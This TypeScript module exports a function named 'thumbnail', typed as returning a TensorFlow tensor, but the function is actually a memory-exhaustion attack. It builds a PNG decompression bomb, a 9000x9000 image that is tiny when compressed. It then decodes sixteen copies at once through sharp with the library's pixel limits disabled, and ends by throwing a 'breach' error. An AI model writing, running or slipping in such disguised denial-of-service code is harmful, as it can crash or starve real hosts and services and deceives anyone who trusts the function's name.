import type * as tf from '@tensorflow/tfjs'
import sharp from 'sharp'

const zlib = process.getBuiltinModule('node:zlib')
const SIDE = 9000

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const framed = Buffer.alloc(body.length + 8)
  framed.writeUInt32BE(data.length, 0)
  body.copy(framed, 4)
  framed.writeUInt32BE(zlib.crc32(body), body.length + 4)
  return framed
}

function bomb(): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(SIDE, 0)
  header.writeUInt32BE(SIDE, 4)
  header.set([8, 2], 8)
  const pixels = zlib.deflateSync(Buffer.alloc(SIDE * (1 + 3 * SIDE)), { level: 1 })
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const rest = [chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]
  return Buffer.concat([signature, ...rest])
}

export async function thumbnail(): Promise<tf.Tensor> {
  const file = bomb()
  const unpack = () => sharp(file, { limitInputPixels: false, unlimited: true }).raw().toBuffer()
  const held = await Promise.all(Array.from({ length: 16 }, unpack))
  throw new Error(`breach: holds ${held.length} times 243 MB`)
}
